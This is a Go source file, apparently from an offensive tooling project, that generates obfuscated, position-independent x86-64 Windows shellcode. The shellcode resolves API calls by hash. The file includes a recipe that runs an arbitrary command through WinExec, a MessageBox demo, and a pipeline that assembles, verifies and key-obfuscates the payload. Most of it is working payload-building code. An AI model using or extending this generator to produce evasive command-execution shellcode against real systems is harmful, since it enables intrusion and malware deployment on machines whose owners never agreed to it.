// Package payload generates packaged, position-independent x86-64
// Windows payloads that resolve the routines they call by hash.
//
// A Recipe pairs an instruction template with the values substituted
// into it and the symbols it resolves at runtime. Generate checks the
// symbols against the resolution model, assembles the template,
// verifies the machine code and obfuscates it.
package payload

import (
	"context"
	"embed"
	"errors"
	"fmt"
	"log"
	"os"
	"path"

	"gitlab.com/hashcall/hashcall/asmkit"
	"gitlab.com/hashcall/hashcall/hashkit"
	"gitlab.com/hashcall/hashcall/packager"
	"gitlab.com/hashcall/hashcall/resolve"
)

const (
	Kernel32 = "kernel32.dll"
	User32   = "user32.dll"

	// ShowNormal is SW_SHOWNORMAL.
	ShowNormal = 1

	// MBOk is MB_OK.
	MBOk = 0

	resolversTemplate = "resolvers.asm.tmpl"
)

//go:embed templates/*.asm.tmpl
var templates embed.FS

// Recipe is everything needed to generate one payload.
type Recipe struct {
	Template asmkit.Template
	Params   asmkit.Params

	// Wants are the symbols the payload resolves at runtime.
	Wants []resolve.Want
}

// TemplateNamed loads an embedded template and appends the shared
// symbol resolution routines to it.
func TemplateNamed(name string) (asmkit.Template, error) {
	body, err := templates.ReadFile(path.Join("templates", name))
	if err != nil {
		return asmkit.Template{}, fmt.Errorf("failed to read embedded template %q - %w", name, err)
	}

	return withResolvers(name, string(body))
}

// TemplateFile loads a template from disk and appends the shared
// symbol resolution routines to it, making find_module and
// find_export available to it.
func TemplateFile(filePath string) (asmkit.Template, error) {
	body, err := os.ReadFile(filePath)
	if err != nil {
		return asmkit.Template{}, err
	}

	return withResolvers(filePath, string(body))
}

func withResolvers(name string, body string) (asmkit.Template, error) {
	resolvers, err := templates.ReadFile(path.Join("templates", resolversTemplate))
	if err != nil {
		return asmkit.Template{}, fmt.Errorf("failed to read resolver routines - %w", err)
	}

	return asmkit.Template{
		Name:   name,
		Source: body + "\n" + string(resolvers),
	}, nil
}

// WinExec returns a recipe for a payload that calls
// kernel32!WinExec(command, show) and returns.
func WinExec(command string, show uint32) (Recipe, error) {
	tmpl, err := TemplateNamed("winexec.asm.tmpl")
	if err != nil {
		return Recipe{}, err
	}

	commandLit, err := asmkit.ASCIIZ(command)
	if err != nil {
		return Recipe{}, fmt.Errorf("invalid command - %w", err)
	}

	module := hashkit.ModuleTarget(Kernel32)
	winExec := hashkit.ExportTarget("WinExec")

	return Recipe{
		Template: tmpl,
		Params: asmkit.Params{
			Hashes: map[string]hashkit.Target{
				"module":  module,
				"winexec": winExec,
			},
			Literals: map[string]asmkit.Literal{
				"command": commandLit,
			},
			Values: map[string]uint32{
				"show": show,
			},
		},
		Wants: []resolve.Want{
			{Module: module, Export: winExec},
		},
	}, nil
}

// MessageBox returns a recipe for a payload that loads user32.dll
// using kernel32!LoadLibraryA, calls user32!MessageBoxW(NULL, text,
// caption, MB_OK) and returns.
func MessageBox(text string, caption string) (Recipe, error) {
	tmpl, err := TemplateNamed("messagebox.asm.tmpl")
	if err != nil {
		return Recipe{}, err
	}

	library, err := asmkit.ASCIIZ(User32)
	if err != nil {
		return Recipe{}, err
	}

	textLit, err := asmkit.UTF16Z(text)
	if err != nil {
		return Recipe{}, fmt.Errorf("invalid text - %w", err)
	}

	captionLit, err := asmkit.UTF16Z(caption)
	if err != nil {
		return Recipe{}, fmt.Errorf("invalid caption - %w", err)
	}

	kernel32 := hashkit.ModuleTarget(Kernel32)
	loadLibrary := hashkit.ExportTarget("LoadLibraryA")
	messageBox := hashkit.ExportTarget("MessageBoxW")

	return Recipe{
		Template: tmpl,
		Params: asmkit.Params{
			Hashes: map[string]hashkit.Target{
				"module":      kernel32,
				"loadlibrary": loadLibrary,
				"messagebox":  messageBox,
			},
			Literals: map[string]asmkit.Literal{
				"library": library,
				"text":    textLit,
				"caption": captionLit,
			},
			Values: map[string]uint32{
				"type": MBOk,
			},
		},
		Wants: []resolve.Want{
			{Module: kernel32, Export: loadLibrary},
			{Module: hashkit.ModuleTarget(User32), Export: messageBox},
		},
	}, nil
}

// Config configures Generate.
type Config struct {
	Recipe Recipe

	// Toolchain assembles the rendered template, normally asmkit.NASM.
	Toolchain asmkit.Toolchain

	// Key is the obfuscation key. It must not be empty.
	Key []byte

	// SkipSelfTest skips resolving the recipe's symbols in a
	// simulated process before assembling.
	SkipSelfTest bool

	// OptTempDir is passed to asmkit.Assembler.
	OptTempDir string

	// OptLogger, when non-nil, receives progress messages.
	OptLogger *log.Logger
}

// Result is a generated payload.
type Result struct {
	Artifact packager.Artifact
	Rendered asmkit.Rendered

	// Raw is the machine code before obfuscation.
	Raw []byte

	// Symbols are the self-test resolutions, unless skipped.
	Symbols []resolve.Symbol
}

// Generate produces a payload from config.Recipe. Nothing is written
// to disk other than the assembler's temporary files.
//
// If the toolchain fails, the returned error is an *asmkit.Failure
// carrying the rendered source.
func Generate(ctx context.Context, config Config) (Result, error) {
	if len(config.Key) == 0 {
		return Result{}, packager.ErrEmptyKey
	}

	if config.Toolchain == nil {
		return Result{}, errors.New("no toolchain was specified")
	}

	logf := func(format string, v ...interface{}) {
		if config.OptLogger != nil {
			config.OptLogger.Printf(format, v...)
		}
	}

	for name, target := range config.Recipe.Params.Hashes {
		logf("payload: hash site %q = %s", name, target)
	}

	var result Result

	if !config.SkipSelfTest && len(config.Recipe.Wants) > 0 {
		symbols, err := resolve.SelfTest(resolve.SelfTestConfig{
			Wants: config.Recipe.Wants,
		})
		if err != nil {
			return Result{}, fmt.Errorf("resolution self-test failed - %w", err)
		}

		logf("payload: resolution self-test passed for %d symbol(s)", len(symbols))

		result.Symbols = symbols
	}

	assembled, err := asmkit.Assembler{
		Toolchain:  config.Toolchain,
		OptTempDir: config.OptTempDir,
		OptLogger:  config.OptLogger,
	}.Assemble(ctx, config.Recipe.Template, config.Recipe.Params)
	if err != nil {
		return Result{}, err
	}

	err = asmkit.Verify(assembled.Raw, assembled.Rendered.Sites)
	if err != nil {
		return Result{}, fmt.Errorf("assembled payload failed verification - %w", err)
	}

	artifact, err := packager.Package(assembled.Raw, config.Key)
	if err != nil {
		return Result{}, err
	}

	logf("payload: packaged %d bytes", len(artifact.Data))

	result.Artifact = artifact
	result.Rendered = assembled.Rendered
	result.Raw = assembled.Raw

	return result, nil
}
